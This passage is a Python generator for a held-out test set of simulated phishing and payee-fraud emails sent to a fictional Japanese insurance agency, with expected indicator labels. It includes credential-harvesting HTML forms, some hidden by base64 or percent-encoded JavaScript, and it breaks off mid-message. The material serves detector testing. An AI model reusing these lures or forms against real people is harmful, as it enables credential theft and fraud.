#!/usr/bin/env python3
# NAME
#   gen.py - write the second held-out inbound lure set (messages/*.eml, labels.tsv)
#
# SYNOPSIS
#   python3 tests/evaluation/lure-heldout2/gen.py
#
# DESCRIPTION
#   Inbound mail to an invented insurance agency, Tsubaki Hoken Service
#   (tsubaki-hoken.example): lures of the kinds Japanese public bodies
#   describe, and ordinary mail from its insurers, suppliers and customers.
#   Every message and its expected categories are written out here; nothing
#   is random and MIME boundaries are fixed, so a second run writes the same
#   bytes.  Labels name the indicators present (see README), decided from
#   the text of each message before any scan.
#
# Python 3 standard library only.

import base64
import io
import os
import sys
import urllib.parse
import zipfile
from email.message import EmailMessage
from email import policy

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, 'messages')
FIRM = 'tsubaki-hoken.example'
TO = '金田 直樹 <kaneda@%s>' % FIRM

F = 'attack.freemail_sender'
S = 'attack.signature_mismatch'
U = 'attack.url_mismatch'
L = 'attack.lookalike_url'
LS = 'attack.lookalike_sender'
K = 'attack.non_japanese_kanji'
C = 'attack.credential_request'
T = 'attack.theme'
SI = 'attack.spoofed_internal'
COVERS = [F, S, U, L, LS, K, C, T, SI]

MESSAGES = []


def msg(name, cats, note, frm, subject, text, html=None, attach=(), reply_to=None,
        args='-', to=TO):
    """msg - record one message; cats is a list of categories (empty: none)."""
    MESSAGES.append(dict(name=name, cats=cats, note=note, frm=frm, subject=subject,
                         text=text, html=html, attach=attach, reply_to=reply_to,
                         args=args, to=to))


def zip_of(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2026, 10, 5, 9, 0, 0))
            z.writestr(info, data)
    return buf.getvalue()


OLE = bytes.fromhex('d0cf11e0a1b11ae1') + b'\0' * 504 + b'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\nEnd Sub\r\n'
PDF = b'%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'


def render(idx, m):
    em = EmailMessage(policy=policy.SMTP)
    em['From'] = m['frm']
    em['To'] = m['to']
    if m['reply_to']:
        em['Reply-To'] = m['reply_to']
    em['Subject'] = m['subject']
    em['Date'] = '%02d Oct 2026 %02d:%02d:00 +0900' % (1 + idx % 27, 8 + idx % 10, (idx * 11) % 60)
    em['Message-ID'] = '<l2-%04d.%s@mta.example>' % (idx, m['name'].replace('.eml', ''))
    em.set_content(m['text'].strip('\n') + '\n', cte='8bit')
    if m['html']:
        em.add_alternative(m['html'], subtype='html', cte='8bit')
    for fname, ctype, data in m['attach']:
        main, sub = ctype.split('/')
        if main == 'text':
            em.add_attachment(data.decode('utf-8'), subtype=sub, filename=fname, cte='base64')
        else:
            em.add_attachment(data, maintype=main, subtype=sub, filename=fname)
    for i, part in enumerate(em.walk()):
        if part.is_multipart():
            part.set_boundary('=_l2_%04d_%d' % (idx, i))
    return em.as_bytes()


def login_page(title, action, user_label='メールアドレス', extra=''):
    return ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>%s</title></head><body>'
            '<h3>%s</h3><p>続行するにはサインインしてください。</p>'
            '<form method="post" action="%s">%s<br><input type="text" name="u"><br>'
            'パスワード<br><input type="password" name="p"><br>%s'
            '<input type="submit" value="サインイン"></form></body></html>'
            % (title, title, action, user_label, extra)).encode('utf-8')


# =================================================================== lures

QUOTE_FIRM = """
-----Original Message-----
From: 金田 直樹 <kaneda@tsubaki-hoken.example>
Sent: Friday, October 2, 2026 11:20 AM
To: {to}
Subject: {subj}

{body}
--
株式会社つばき保険サービス 本店営業部 金田 直樹
TEL 048-600-3317 kaneda@tsubaki-hoken.example
"""

msg('lure-emotet-01.eml', [S],
    'reply in a stolen order thread from an unrelated compromised domain; signature keeps the supplier address; macro workbook',
    '神谷紙工 石田 <ishida@mx.toyo-denki-works.example>', 'RE: 名刺の追加発注', """
金田様

お世話になっております。
ご指摘の箇所を修正しましたので、添付のファイルをご確認ください。
ファイルを開いた際に「編集を有効にする」を押してからご覧ください。

--
神谷紙工株式会社 受注センター 石田
ishida@kamiya-shiko.example
""" + QUOTE_FIRM.format(to='石田様 <ishida@kamiya-shiko.example>', subj='名刺の追加発注',
                        body='名刺の追加発注をお願いします。数量は5箱です。'),
    attach=[('修正版_発注書.xlsm', 'application/vnd.ms-excel.sheet.macroEnabled.12', OLE)])

msg('lure-emotet-02.eml', [F, S],
    'reply to a seminar thread from a free-mail account using the insurer staff name; password-protected archive with the password in the body',
    'ほしぞら生命 佐々木 <sasaki.hoshizora.k@gmail.com>', 'Re: 勉強会のご案内', """
金田様

資料をお送りします。
パスワード：Hs2026k
よろしくお願いいたします。

ほしぞら生命保険株式会社 営業推進部 佐々木 健
sasaki.ken@hoshizora-life.example
""" + QUOTE_FIRM.format(to='佐々木様 <sasaki.ken@hoshizora-life.example>', subj='勉強会のご案内',
                        body='勉強会には2名で参加いたします。資料を事前にいただけますか。'),
    attach=[('勉強会資料.zip', 'application/zip', zip_of([('勉強会資料.doc', OLE)]))])

msg('lure-emotet-03.eml', [LS, S],
    'reply from a look-alike of the insurer domain (extra hyphenated part); signature keeps the real address; Word document',
    'あおぞら損保 事故受付 <jiko@aozora-sonpo-jp.example>', 'RE: 事故報告書の件', """
ご担当者様

事故報告書の記入例をお送りします。添付のファイルをご確認ください。

あおぞら損害保険株式会社 事故受付センター
jiko@aozora-sonpo.example
""" + QUOTE_FIRM.format(to='jiko@aozora-sonpo.example', subj='事故報告書の件',
                        body='事故報告書を送付いたします。ご確認ください。'),
    attach=[('事故報告書_記入例.doc', 'application/msword', OLE)])

msg('lure-emotet-04.eml', [S, L, T],
    'reply in an invoice thread from an unrelated domain; download link to a raw IPv4 host; signature keeps the supplier address',
    'オフィスみなと 田中 <tanaka@kensetsu-daiichi.example>', 'Re: 9月分ご請求書送付', """
金田様

請求書の金額に誤りがありました。訂正版を下記からダウンロードしてください。
http://198.51.100.77/doc/seikyu_0930.php

株式会社オフィスみなと 経理部 田中
tanaka@office-minato.example
""" + QUOTE_FIRM.format(to='tanaka@office-minato.example', subj='9月分ご請求書送付',
                        body='9月分のご請求書を確認しました。'))

msg('lure-emotet-05.eml', [S, T],
    'English reply in a shipping thread from an unrelated domain; signature keeps the reinsurer address; invoice archive',
    'David Harris <j.miller@freight-asia.example>', 'RE: Shipping documents', """
Hi,

Please see the attached invoice and confirm the payment date.

David Harris
Harbor Re, Tokyo Branch
d.harris@harbor-re.example
""" + QUOTE_FIRM.format(to='d.harris@harbor-re.example', subj='Shipping documents',
                        body='Thank you for the documents. We will check them this week.'),
    attach=[('Invoice_20261012.zip', 'application/zip', zip_of([('Invoice_20261012.doc', OLE)]))])

msg('lure-emotet-06.eml', [S, U],
    'reply with a link whose visible text is the supplier URL but leads elsewhere; signature keeps the supplier address',
    '神谷紙工 営業部 <eigyo@kk-hanamura.example>', 'Re: お見積りの件', """
金田様

お見積書を更新しました。
https://www.kamiya-shiko.example/files/mitsumori_v2.xlsm

神谷紙工株式会社 営業部
eigyo@kamiya-shiko.example
""", html="""<html><body><p>金田様</p><p>お見積書を更新しました。<br>
<a href="http://files-share-box.example/d/8841/mitsumori_v2.xlsm">https://www.kamiya-shiko.example/files/mitsumori_v2.xlsm</a></p>
<p>神谷紙工株式会社 営業部<br>eigyo@kamiya-shiko.example</p></body></html>""")

# ---- delivery ----------------------------------------------------------

msg('lure-delivery-01.eml', [L, T], 'Japan Post absence notice; host carries the carrier name under another domain',
    '日本郵便 <info@japanpost-notice.example>', '【日本郵便】ご不在のお知らせ', """
お荷物のお届けにあがりましたが、ご不在のため持ち帰りました。
再配達のお手続きは下記からお願いします。保管期限は3日間です。
https://japanpost.redelivery-jp.example/entry
""")

msg('lure-delivery-02.eml', [L, T], 'Yamato notice; the real domain put in front of another',
    'ヤマト運輸 <no-reply@yamato-info-mail.example>', 'お荷物お届けのお知らせ', """
お客様宛のお荷物について、住所不備のためお届けできませんでした。
以下のリンクから配送先住所をご確認ください。
http://kuronekoyamato.co.jp.tracking-a.example/check
""")

msg('lure-delivery-03.eml', [L, C, T], 'Sagawa notice asking for ID and password',
    '佐川急便 <info@sagawa-support-center.example>', '配達できませんでした（お問い合わせ番号 4418-2207-1953）', """
本日お荷物をお届けにあがりましたが、ご不在でした。
再配達の受付には、会員IDとパスワードでのログインが必要です。
https://sagawa-exp.delivery-center.example/login
""")

msg('lure-delivery-04.eml', [L, T], 'English courier notice: customs fee, brand in a longer host',
    'DHL Express <noreply@dhl-parcel-support.example>', 'Your parcel is on hold - customs fee due', """
Dear customer,

Your parcel (AWB 7741 2093 55) is held at customs. A fee of JPY 240 is due
before delivery. Please settle it within 48 hours:
https://dhl.parcel-support.example/pay
""")

msg('lure-delivery-05.eml', [L, T], 'English courier notice linking to a raw IPv4 host',
    'FedEx <tracking@fedex-alerts.example>', 'FedEx: delivery attempt failed', """
We attempted to deliver your package today but nobody was available.
Reschedule your delivery here: http://203.0.113.19/fedex/track?id=5512
""")

msg('lure-delivery-06.eml', [L, C, T], 'shop delivery-address check: digit-for-letter brand host, asks for the account password',
    'Amazon.co.jp <account-update@amazon-order-info.example>', '配送先住所の確認が必要です', """
ご注文の商品を発送できませんでした。配送先住所に問題があります。
Amazonアカウントにサインインし、パスワードを入力して住所を更新してください。
https://amaz0n-jp.delivery-fix.example/signin
""")

# ---- mailbox quota ---------------------------------------------------

msg('lure-mailbox-01.eml', [L, C, T], 'mailbox quota; the firm domain as a label of a longer host; asks for ID and password',
    'システム管理者 <admin@mailsvr-support.example>', 'メールボックスの容量が上限に達しました', """
kaneda@tsubaki-hoken.example 様

メールボックスの容量が上限の98%に達しています。
新しいメールを受信できなくなる前に、下記のページでIDとパスワードを入力し容量を拡張してください。
https://tsubaki-hoken.mail-quota.example/login
""")

msg('lure-mailbox-02.eml', [SI, L, C, T], 'held messages notice with the firm domain as sender from an outside client; raw IPv4 link',
    'postmaster <postmaster@tsubaki-hoken.example>', '保留中のメッセージが5通あります', """
配信が保留されているメッセージが5通あります。
受信するには、メールアカウントのパスワードで認証してください。
http://203.0.113.88/owa/auth
""", args='--client 198.51.100.45')

msg('lure-mailbox-03.eml', [K, C, T], 'machine-written Japanese with simplified hanzi; quota upgrade asking for the password',
    'メール管理センター <service@mail-upgrade-center.example>', 'メールボックス容量の通知', """
お客様

您的メールボックス容量が超过しました。这是最后的通知です。
请点击下面的链接，账户のパスワードを入力して确认してください。
我们は24時間以内に処理します。
https://mail-upgrade-center.example/verify
""")

msg('lure-mailbox-04.eml', [LS, L, C, T], 'English quota notice from a look-alike of the firm domain (hyphenated part)',
    'IT Helpdesk <helpdesk@tsubaki-hoken-it.example>', 'Mailbox storage full - action required', """
Your mailbox has exceeded its storage limit. Sign in with your password
within 24 hours to keep receiving messages:
https://tsubaki-hoken-it.example/quota
""")

msg('lure-mailbox-05.eml', [U, C, T], 'delayed-mail notice; visible text shows the firm webmail, the link goes elsewhere',
    'メールシステム <notice@mailsystem-report.example>', '受信メールの配信遅延について', """
受信メール12通の配信が遅延しています。
Webメールにログインし、IDとパスワードを入力して受信を完了してください。
https://mail.tsubaki-hoken.example/owa
""", html="""<html><body><p>受信メール12通の配信が遅延しています。</p>
<p>Webメールにログインし、IDとパスワードを入力して受信を完了してください。<br>
<a href="https://owa-login-portal.example/tsb">https://mail.tsubaki-hoken.example/owa</a></p></body></html>""")

# ---- password expiry -------------------------------------------------

msg('lure-password-01.eml', [L, C, T], 'cloud mail password expiry; digit-for-letter brand host',
    'Microsoft 365 <no-reply@micros0ft-security.example>', 'パスワードの有効期限のお知らせ', """
お使いのアカウントのパスワードは本日有効期限が切れます。
現在のパスワードを引き続き使用するには、下記から確認してください。
https://login.micros0ft-security.example/keep
""")

msg('lure-password-02.eml', [L, C, T], 'password expiry of the firm system; punycode homograph of the firm domain',
    '情報システム課 <it-desk@secure-notify.example>', '【社内】パスワード有効期限切れのお知らせ', """
社員各位

社内システムのパスワードの有効期限が切れています。
以下のページで現在のパスワードと新しいパスワードを入力してください。
https://xn--tsubak-hoken-6ok.example/password
""")

msg('lure-password-03.eml', [LS, L, C, T], 'password reset from a look-alike of the firm domain (hyphen dropped)',
    '総務部 システム担当 <system@tsubakihoken.example>', 'パスワード再設定のお願い', """
社員各位

セキュリティ強化のため、全社員のパスワード再設定をお願いします。
https://tsubakihoken.example/reset から社員IDと現在のパスワードを入力してください。
""")

msg('lure-password-04.eml', [L, C, T], 'English cloud mail expiry; the brand domain put in front of another',
    'Google Workspace <admin@gsuite-alerts.example>', 'Your password expires today', """
Your Google Workspace password expires today.
Keep your current password by signing in here:
https://accounts.google.com.signin-check.example/keep
""")

msg('lure-password-05.eml', [F, S, L, C, T], 'free-mail sender claiming the IT supplier; signature keeps the supplier address; supplier name in the host',
    'ネットソリューション サポート <netsol.support.desk@gmail.com>', 'パスワード変更のお願い（保守作業）', """
つばき保険サービス ご担当者様

保守作業のため、管理者アカウントのパスワード変更をお願いします。
https://net-sol-support.example/reset にて現在のIDとパスワードを入力してください。

株式会社ネットソリューション サポートセンター
support@net-sol.example
""")

# ---- account verification -------------------------------------------

msg('lure-account-01.eml', [L, C, T], "bank's transaction-purpose check asking for ID and PIN",
    '三井住友銀行 <info@smbc-kakunin-center.example>', '【重要】お取引目的等の確認のお願い', """
お客様の口座について、取引目的等の確認が必要です。
期限までにご回答がない場合、お取引を制限いたします。
ログインIDと暗証番号を入力してご回答ください。
https://smbc-kakunin.example/
""")

msg('lure-account-02.eml', [L, C, T], 'card use check; brand as a label of a longer host',
    '楽天カード <support@rakuten-card-info.example>', '【重要】カードご利用確認のお願い', """
第三者による不正利用の可能性があるお取引を検知しました。
ユーザIDとパスワードでログインし、ご利用内容をご確認ください。
https://rakuten-card.account-check.example/login
""")

msg('lure-account-03.eml', [LS, L, C, T], "insurer's agency portal re-registration from a digit-for-letter look-alike of the insurer",
    'あおぞら損保 代理店システム <portal@aozora-sonp0.example>', '代理店システム 再登録のお願い', """
代理店各位

システム更新に伴い、代理店システムの利用者再登録が必要です。
代理店コード、ログインIDおよびパスワードを入力してください。
https://aozora-sonp0.example/agency/login
""")

msg('lure-account-04.eml', [L, T], 'tax office unpaid-tax notice; short brand token as a hyphenated part',
    '国税庁 <info@nta-notice.example>', '【国税庁】未納税金のお知らせ', """
あなたの所得税に未納があります。本日中にお支払いがない場合、財産を差し押さえます。
お支払いは下記からお願いします。
https://nta-go-jp.tax-payment.example/pay
""")

msg('lure-account-05.eml', [L, C, T], 'Apple ID lock; raw IPv4 link',
    'Apple <no_reply@apple-id-support.example>', 'Apple IDがロックされました', """
お客様のApple IDはセキュリティ上の理由によりロックされました。
Apple IDとパスワードを入力してロックを解除してください。
http://198.51.100.140/apple/unlock
""")

msg('lure-account-06.eml', [L, C, T], 'English account suspension; digit-for-letter payment brand',
    'PayPal <service@paypal-resolution.example>', 'Verify your account to avoid suspension', """
We noticed unusual activity in your account. To avoid suspension,
confirm your identity by signing in with your email and password:
https://paypa1-secure.example/verify
""")

# ---- invoices and payee changes -------------------------------------

msg('lure-bec-01.eml', [LS, T], 'payee change from a look-alike of the supplier domain (one letter changed)',
    '神谷紙工 経理部 <keiri@kamiya-shlko.example>', '【重要】お振込先口座変更のお知らせ', """
つばき保険サービス 経理ご担当者様

弊社の取引銀行の変更に伴い、お振込先口座が変更となりました。
10月分以降のお支払いは、下記口座へお願いいたします。
　新口座：○○銀行 本店営業部 普通 7310045
旧口座へのお振込はご遠慮ください。

神谷紙工株式会社 経理部
keiri@kamiya-shlko.example
""")

msg('lure-bec-02.eml', [F, T], "president's urgent transfer request from a free-mail account",
    '椿 一郎 <tsubaki.ichiro.office@gmail.com>', '至急：送金のお願い', """
金田さん

極秘の案件で、本日中に送金をお願いしたい。
金額と振込先は後ほど連絡します。社内の他の者には口外しないように。
会議中のため電話には出られません。メールで返信してください。
""")

msg('lure-bec-03.eml', [C, T], 'fake invoice notice: viewing the invoice needs the mail address and password',
    '請求書サービス <billing@invoice-cloud-service.example>', '請求書が発行されました（INV-2026-10-3318）', """
新しい請求書が発行されました。
請求金額：385,000円　お支払期限：10月30日
請求書の表示には、メールアドレスとパスワードでのログインが必要です。
https://invoice-cloud-service.example/view?id=3318
""")

msg('lure-bec-04.eml', [LS, S, T], 'English bank-details change from a look-alike of the reinsurer; Reply-To at a free-mail domain',
    'Harbor Re Accounts <accounts@harbor-re-finance.example>', 'Updated bank details for outstanding invoice', """
Dear Sir/Madam,

Due to an audit, our bank details have changed. Please make the payment for
invoice HR-2026-0918 to our new account. We will send the details on request.

Harbor Re Accounts Team
""", reply_to='harbor.accounts.team@outlook.com')

msg('lure-bec-05.eml', [U, L, T], 'invoice link: visible supplier URL, target host carries the supplier name',
    'オフィスみなと 請求担当 <seikyu@minato-billing.example>', '10月分請求書のご案内', """
ご担当者様

10月分の請求書をご用意しました。下記よりご確認ください。
https://www.office-minato.example/invoice/
""", html="""<html><body><p>ご担当者様</p><p>10月分の請求書をご用意しました。下記よりご確認ください。<br>
<a href="http://office-minato.invoice-dl.example/10">https://www.office-minato.example/invoice/</a></p></body></html>""")

# ---- look-alikes of the firm and its partners ------------------------

msg('lure-lookalike-01.eml', [LS, L, T], 'personnel notice from the firm name under another suffix',
    'つばき保険サービス 総務部 <soumu@tsubaki-hoken.test>', '【全社員】人事異動のお知らせ', """
社員各位

11月1日付の人事異動を下記に掲載しました。必ずご確認ください。
https://tsubaki-hoken.test/jinji/202611.pdf
""")

msg('lure-lookalike-02.eml', [LS, L, T], 'document replacement from a digit-for-letter look-alike of the life insurer',
    'ほしぞら生命 営業推進部 <suishin@hoshizora-1ife.example>', '募集資料差し替えのお願い', """
代理店各位

募集資料に誤りがありました。差し替え版を下記からダウンロードしてください。
https://hoshizora-1ife.example/docs/pamphlet_v2
""")

msg('lure-lookalike-03.eml', [LS, L], 'policy notice from a one-letter look-alike of the insurer; no lure topic',
    'あおぞら損保 代理店推進課 <dairiten@aozora-sompo.example>', '代理店手数料体系の改定について', """
代理店各位

来年度の代理店手数料体系の改定について、説明資料を掲載しました。
https://aozora-sompo.example/notice/2027
""")

msg('lure-lookalike-04.eml', [LS, L, C, T], 'expense system migration from the firm domain with a letter added; asks ID and password',
    '経理部 <keiri@tsubaki-hokenn.example>', '経費精算システム移行に伴うアカウント登録', """
社員各位

経費精算システムの移行に伴い、アカウント登録をお願いします。
https://tsubaki-hokenn.example/keihi にて社員IDとパスワードを入力してください。
""")

msg('lure-lookalike-05.eml', [LS], 'supplier look-alike (hyphen dropped), plain request, no link',
    '神谷紙工 制作部 <seisaku@kamiyashiko.example>', 'ロゴデータのご確認', """
金田様

名刺のロゴデータについて、最新版をご返信いただけますでしょうか。
よろしくお願いいたします。
""")

# ---- HTML attachments with a login form ------------------------------

msg('lure-htmlattach-01.eml', [C, T], 'invoice HTML attachment with a password form posting to a web site',
    '経理課 <keiri@nishikawa-kogyo.example>', '10月分請求書の送付', """
ご担当者様

10月分の請求書を添付いたします。ご確認ください。
""", attach=[('請求書_10月分.html', 'text/html',
              login_page('請求書の閲覧', 'https://collect-form.example/p.php'))])

msg('lure-htmlattach-02.eml', [C, T], 'shared-document HTML attachment imitating a cloud login',
    'OneDrive <share@docs-notify.example>', '共有ドキュメントが届いています', """
あなたとドキュメントが共有されました。添付のファイルを開いてサインインしてください。
""", attach=[('共有ドキュメント.htm', 'text/html',
              login_page('OneDrive 共有ドキュメント', 'https://docs-auth-gate.example/login'))])

msg('lure-htmlattach-03.eml', [C, T], 'fax notice with an HTML attachment holding a login form',
    'FAX受信サービス <fax@efax-center.example>', 'FAXを受信しました（3枚）', """
FAXを受信しました。添付ファイルから内容をご確認ください。
送信元：03-5xxx-xxxx　枚数：3枚
""", attach=[('FAX受信_3枚.html', 'text/html',
              login_page('FAX受信ボックス', 'https://fax-view-login.example/auth'))])

msg('lure-htmlattach-04.eml', [C, T], 'English voicemail notice with an HTML attachment holding a login form',
    'Voice Mail <voicemail@pbx-notify.example>', 'New voicemail (0:42)', """
You have a new voicemail message. Open the attachment to listen.
""", attach=[('Voicemail_0412.html', 'text/html',
              login_page('Voicemail', 'https://voice-portal-auth.example/in', user_label='Email'))])

ENC_FORM = ('<form method="post" action="https://pay-notice-form.example/r">'
            '<p>メールアドレス</p><input type="text" name="e">'
            '<p>パスワード</p><input type="password" name="pw">'
            '<input type="submit" value="表示"></form>')
JS_B64 = ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>支払通知書</title></head><body>'
          '<p>読み込み中...</p><script>document.write(decodeURIComponent(escape(atob("%s"))));</script>'
          '</body></html>' % base64.b64encode(ENC_FORM.encode('utf-8')).decode('ascii')).encode('utf-8')

msg('lure-htmlattach-05.eml', [C, T], 'payment notice HTML attachment whose login form is written by JavaScript from a base64 string',
    '支払管理 <payment@shiharai-kanri.example>', '支払通知書の送付', """
ご担当者様

今月の支払通知書を添付いたします。ファイルを開いてご確認ください。
""", attach=[('支払通知書.html', 'text/html', JS_B64)])

EN_FORM = ('<form method="post" action="https://secure-doc-view.example/s">'
           'Email <input type="email" name="m"> Password <input type="password" name="k">'
           '<button>View document</button></form>')
JS_ESC = ('<html><head><title>Secure Document</title></head><body><script>'
          'document.write(unescape("%s"));</script></body></html>'
          % urllib.parse.quote(EN_FORM, safe='')).encode('utf-8')

msg('lure-htmlattach-06.eml', [C, T], 'English shared-document HTML attachment; form written by JavaScript from a percent-encoded string',
    'Secure Share <noreply@securedoc-share.example>', 'Document shared with you: Q3_Report', """
A secure document has been shared with you. Open the attached file to view it.
""", attach=[('Document_Secure.html', 'text/html', JS_ESC)])

# ---- links whose visible text differs from the target ---------------

msg('lure-url-01.eml', [U], 'seminar material: visible insurer URL, link to an unrelated host',
    'セミナー事務局 <seminar@event-desk.example>', 'セミナー資料のご案内', """
先日のセミナー資料を公開しました。
https://www.hoshizora-life.example/seminar/2026
""", html="""<html><body><p>先日のセミナー資料を公開しました。<br>
<a href="https://seminar-files-dl.example/s/2026">https://www.hoshizora-life.example/seminar/2026</a></p></body></html>""")

msg('lure-url-02.eml', [U, T], 'English shared file: visible cloud-drive URL, link to another host',
    'Shared Files <notice@filedrop-mail.example>', 'Shared file: Q3 report', """
A file has been shared with you.
https://drive.google.com/file/d/1xY7Qr/view
""", html="""<html><body><p>A file has been shared with you.<br>
<a href="http://files-drop-zone.example/g/1xY7Qr">https://drive.google.com/file/d/1xY7Qr/view</a></p></body></html>""")

msg('lure-url-03.eml', [U, C, T], 'attendance system re-login: visible firm domain, link to another host, asks ID and password',
    '勤怠管理 <kintai@kintai-notice.example>', '勤怠システム 再ログインのお願い', """
勤怠システムのセッションが切れました。社員IDとパスワードで再ログインしてください。
www.tsubaki-hoken.example/kintai
""", html="""<html><body><p>勤怠システムのセッションが切れました。社員IDとパスワードで再ログインしてください。<br>
<a href="https://kintai-cloud-login.example/">www.tsubaki-hoken.example/kintai</a></p></body></html>""")

# ---- all-Chinese mail ------------------------------------------------

msg('lure-chinese-01.eml', [K], 'business letter in simplified Chinese from an unknown sender',
    '王经理 <wang@huamei-maoyi.example>', '关于合作的邀请', """
尊敬的先生/女士：

您好！我们是一家专业从事国际贸易的公司，希望与贵公司建立长期合作关系。
如有兴趣，请回复此邮件，我们将尽快与您联系。

此致
敬礼
""")

msg('lure-chinese-02.eml', [K, T], 'invoice in simplified Chinese with a link',
    '财务部 <finance@xinda-fapiao.example>', '发票通知', """
您好：

贵公司本月的发票已经开具，请点击以下链接下载并核对金额。
https://xinda-fapiao.example/download/1026
如有疑问，请及时与我们联系。
""")

msg('lure-chinese-03.eml', [K, C, T], 'mailbox upgrade in traditional Chinese asking for the password',
    '郵箱管理員 <admin@mailbox-sys-tw.example>', '您的信箱容量已滿', """
親愛的用戶：

您的電子郵件信箱容量已滿，系統將停止接收新郵件。
請點擊以下連結，輸入您的帳號和密碼以升級信箱。
https://mailbox-sys-tw.example/upgrade
""")

msg('lure-chinese-04.eml', [K, C, T], 'account verification in simplified Chinese',
    '安全中心 <security@zhanghu-yanzheng.example>', '账户验证通知', """
尊敬的用户：

我们检测到您的账户存在异常登录。为了保障账户安全，请在24小时内完成验证。
请点击链接并输入用户名和密码：https://zhanghu-yanzheng.example/login
""")


# ---- the firm's own domain from an outside client -------------------

msg('lure-spoofed-01.eml', [S, T, SI], "president's transfer request with the firm domain as sender from an outside client; Reply-To at free mail",
    '椿 一郎 <ichiro.tsubaki@tsubaki-hoken.example>', '【至急】本日中の振込について', """
金田さん

取引先への支払いを本日中に済ませる必要があります。
振込先はこのメールへの返信で伝えますので、準備をお願いします。
外出中のため電話には出られません。
""", reply_to='ceo.tsubaki.office@outlook.com', args='--client 203.0.113.201')

msg('lure-spoofed-02.eml', [C, T, SI], 'bonus statement notice with the firm domain as sender from an outside client; HTML attachment with a login form',
    '総務部 <soumu@tsubaki-hoken.example>', '【全社員】賞与支給明細のお知らせ', """
社員各位

冬季賞与の支給明細を添付します。社員IDとパスワードで閲覧してください。
""", attach=[('賞与支給明細.html', 'text/html',
              login_page('賞与支給明細', 'https://payslip-view-portal.example/auth', user_label='社員ID'))],
    args='--client 198.51.100.99')


msg('lure-chinese-05.eml', [L, K, T], 'parcel notice in simplified Chinese linking to a raw IPv4 host',
    '快递服务 <notice@kuaidi-tongzhi.example>', '您的包裹无法投递', """
尊敬的客户：

由于地址信息不完整，您的包裹无法投递。
请在48小时内点击以下链接更新您的收货地址：http://203.0.113.66/kd/update
否则包裹将被退回。
""")

# ---- free-mail senders claiming to be a partner ---------------------

msg('lure-freemail-01.eml', [F, S], 'free-mail sender using the insurer staff name; signature keeps the insurer address',
    'あおぞら損保 山本 <aozora.yamamoto.k@gmail.com>', '事故報告書の件', """
金田様

お世話になっております。あおぞら損保の山本です。
社用PCの不具合のため、個人アドレスから失礼します。
事故報告書の控えをこちらのアドレスにお送りいただけますか。

あおぞら損害保険株式会社 事故受付センター 山本 和也
yamamoto@aozora-sonpo.example
""")

msg('lure-freemail-02.eml', [F, S, T], 'free-mail sender claiming the supplier accounts; payee change',
    '神谷紙工 経理 <kamiya.keiri2026@yahoo.co.jp>', '振込先変更のお願い', """
ご担当者様

弊社の振込先口座を変更いたしました。次回のお支払いから新しい口座へお振込みください。
新しい口座情報は本メールへの返信でお知らせします。

神谷紙工株式会社 経理部
keiri@kamiya-shiko.example
""")

msg('lure-freemail-03.eml', [F, L, T], 'English free-mail sender claiming the reinsurer; host carries the partner name as a label',
    'Harbor Re Claims <harborre.claims@outlook.com>', 'Urgent: claim documents to review', """
Hello,

Please review the claim documents before Friday:
https://harbor-re.docs-view.example/claims/2026

Harbor Re Claims
""")

msg('lure-freemail-04.eml', [F, T], 'free-mail sender claiming the life insurer; survey request',
    'ほしぞら生命 営業推進部 <hoshizora.suishin@hotmail.co.jp>', '代理店アンケートご協力のお願い', """
代理店各位

代理店様向けアンケートへのご協力をお願いいたします。
https://forms-survey-online.example/f/8813
""")

# ---- classic targeted topics (IPA) ----------------------------------

msg('lure-theme-01.eml', [T], 'press interview request with a document attachment',
    '経済ジャーナル編集部 <henshu@keizai-journal-press.example>', '取材のお願い', """
つばき保険サービス 広報ご担当者様

弊誌で地域の保険代理店の取り組みを特集しており、取材をお願いしたくご連絡しました。
詳細は添付の取材依頼書をご覧ください。
""", attach=[('取材依頼書.doc', 'application/msword', OLE)])

msg('lure-theme-02.eml', [F, T], 'CV sent from free mail, archive attachment',
    '佐野 亮 <ryo.sano.job@gmail.com>', '履歴書の送付（営業職応募）', """
採用ご担当者様

営業職の求人を拝見し、応募いたします。履歴書を添付いたしますのでご確認ください。
""", attach=[('履歴書_佐野.zip', 'application/zip', zip_of([('履歴書_佐野.doc', OLE)]))])

msg('lure-theme-03.eml', [L, T], 'infection notice in the name of IPA; its domain put in front of another',
    'IPA 情報セキュリティセンター <alert@security-center-info.example>', '【緊急】ウイルス感染のお知らせ', """
貴社のネットワークからウイルス感染の兆候を検知しました。
下記の手順書に従い、至急対応してください。
https://ipa.go.jp.alert-info.example/procedure
""")

# ================================================================= benign

SIG_AOZORA = """
--
あおぞら損害保険株式会社 代理店推進課
〒100-0004 東京都千代田区大手町1-8-2
TEL 03-3288-5100
dairiten@aozora-sonpo.example
https://www.aozora-sonpo.example/
"""
SIG_HOSHI = """
--
ほしぞら生命保険株式会社 営業推進部 佐々木 健
TEL 03-6811-2904
sasaki.ken@hoshizora-life.example
"""

msg('benign-partner-01.eml', [], 'insurer notice: agency meeting, link to its own site',
    'あおぞら損保 代理店推進課 <dairiten@aozora-sonpo.example>', '代理店会議の開催について', """
代理店各位

11月6日（金）14時より代理店会議を開催します。
議題と会場は https://www.aozora-sonpo.example/agency/meeting をご覧ください。
""" + SIG_AOZORA)

msg('benign-partner-02.eml', [], 'insurer notice: product study session',
    '佐々木 健 <sasaki.ken@hoshizora-life.example>', '新商品勉強会のご案内', """
金田様

いつもお世話になっております。
10月21日（水）15時より新商品勉強会を開催します。ご都合はいかがでしょうか。
""" + SIG_HOSHI)

msg('benign-partner-03.eml', [], 'insurer: claim handling progress for a customer',
    'あおぞら損保 事故受付センター <jiko@aozora-sonpo.example>', '事故受付完了のご連絡', """
つばき保険サービス ご担当者様

先日ご連絡いただいた事故について、受付が完了しました。
担当者から契約者様へ直接ご連絡いたします。
""" + SIG_AOZORA)

msg('benign-partner-04.eml', [], 'insurer: new brochures shipped',
    '佐々木 健 <sasaki.ken@hoshizora-life.example>', '新パンフレット送付のお知らせ', """
金田様

ご依頼の新パンフレット50部を本日発送しました。明後日到着予定です。
""" + SIG_HOSHI)

msg('benign-partner-05.eml', [], 'English reinsurer: renewal meeting',
    'David Harris <d.harris@harbor-re.example>', 'Treaty renewal meeting', """
